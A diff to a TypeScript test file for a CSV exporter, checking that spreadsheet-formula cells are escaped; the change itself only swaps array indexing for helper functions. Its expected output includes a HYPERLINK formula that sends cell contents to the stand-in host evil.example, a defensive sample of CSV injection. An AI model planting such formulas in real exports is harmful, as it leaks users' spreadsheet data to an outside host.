@@ -4,6 +4,7 @@ import { MOCK_OUTPUTS_NOTE } from '@promptgrid/contract';
 import { cellKey } from '../lib/results-index';
 import type { GridCell, GridData } from './grid-data';
 import { gridCsv } from './csv';
+import { firstItems, itemAt } from '@promptgrid/test-support/items';
 
 const cell = (output: string | null, error: string | null = null): GridCell => ({
   status: output === null ? 'FAILED' : 'SUCCESS',
@@ -29,7 +30,7 @@ const hostile: GridData = {
 
 describe('the results CSV', () => {
   it('prefixes every cell a spreadsheet would run as a formula, multi-line outputs included', () => {
-    const [, first, second] = Papa.parse<string[]>(gridCsv(hostile)).data;
+    const [, first, second] = firstItems(Papa.parse<string[]>(gridCsv(hostile)).data, 3);
     expect(first.slice(0, 7)).toEqual([
       "'@name",
       "'-1+2",
@@ -39,15 +40,15 @@ describe('the results CSV', () => {
       'SUCCESS',
       `'=HYPERLINK("http://evil.example/?"&A1)\nthen more lines`,
     ]);
-    expect(second[7]).toBe("'\tERROR");
+    expect(itemAt(second, 7)).toBe("'\tERROR");
     // Numbers stay numbers.
     expect(first.slice(8, 11)).toEqual(['2', '3', '1']);
   });
 
   it("starts a mock run's file with a notice column that says so on every row", () => {
-    const [header, ...rows] = Papa.parse<string[]>(gridCsv({ ...hostile, mock: true })).data;
+    const [header = [], ...rows] = Papa.parse<string[]>(gridCsv({ ...hostile, mock: true })).data;
     expect(header.slice(0, 2)).toEqual(['notice', 'input_name']);
     expect(rows.map((row) => row[0])).toEqual([MOCK_OUTPUTS_NOTE, MOCK_OUTPUTS_NOTE]);
-    expect(Papa.parse<string[]>(gridCsv(hostile)).data[0][0]).toBe('input_name');
+    expect(itemAt(itemAt(Papa.parse<string[]>(gridCsv(hostile)).data, 0), 0)).toBe('input_name');
   });
 });
